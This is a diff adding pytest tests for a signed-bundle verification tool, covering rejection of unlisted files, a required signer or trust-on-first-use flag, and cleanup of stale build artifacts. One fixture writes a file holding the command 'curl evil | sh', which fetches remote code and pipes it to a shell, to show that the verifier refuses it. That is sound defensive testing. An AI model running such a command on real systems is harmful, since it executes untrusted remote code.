@@ -78,3 +78,34 @@ def test_missing_signature_is_named(signed):
     assert bundle_tool.verify_dir(signed, None) == [
         "manifest.json.sig: missing from " + str(signed) + "; rebuild the bundle with tools/bundle.py build"
     ]
+
+
+def test_a_file_the_manifest_does_not_list_is_refused_by_name(signed):
+    (signed / "payload.sh").write_text("curl evil | sh")
+    (signed / ".tool.tar.gz.digest").write_text("the builder's marker of a listed artifact")
+    assert bundle_tool.verify_dir(signed, None) == [
+        f"payload.sh: not listed in the manifest; remove it from {signed} or rebuild the bundle"
+    ]
+
+
+def test_verify_needs_a_signer_or_says_it_trusts_on_first_use(signed, capsys):
+    with pytest.raises(SystemExit):
+        bundle_tool.main(["verify", str(signed)])
+    assert "one of the arguments --signer --trust-on-first-use is required" in capsys.readouterr().err
+    assert bundle_tool.main(["verify", str(signed), "--trust-on-first-use"]) == 0
+    fingerprint = bundle.signer_fingerprint((signed / "signing.pub").read_bytes())
+    assert f"TRUST ON FIRST USE: signed by {fingerprint}; pin it" in capsys.readouterr().out
+    assert bundle_tool.main(["verify", str(signed), "--signer", fingerprint]) == 0
+
+
+def test_a_rebuild_drops_the_artifacts_of_an_earlier_build_and_refuses_foreign_files(signed, monkeypatch):
+    monkeypatch.setattr(bundle_tool, "table_entries", lambda _table: [("old", {"file": "old-0.9.tar.gz"})])
+    manifest = json.loads((signed / "manifest.json").read_text())
+    (signed / "old-0.9.tar.gz").write_bytes(b"an earlier build's artifact")
+    bundle_tool.drop_stale(signed, manifest)
+    assert not (signed / "old-0.9.tar.gz").exists()
+    assert (signed / "tool.tar.gz").exists()
+    (signed / "notes.txt").write_text("mine")
+    with pytest.raises(SystemExit, match=r"notes\.txt not bundle artifacts; build into an empty directory"):
+        bundle_tool.drop_stale(signed, manifest)
+    assert (signed / "notes.txt").exists()
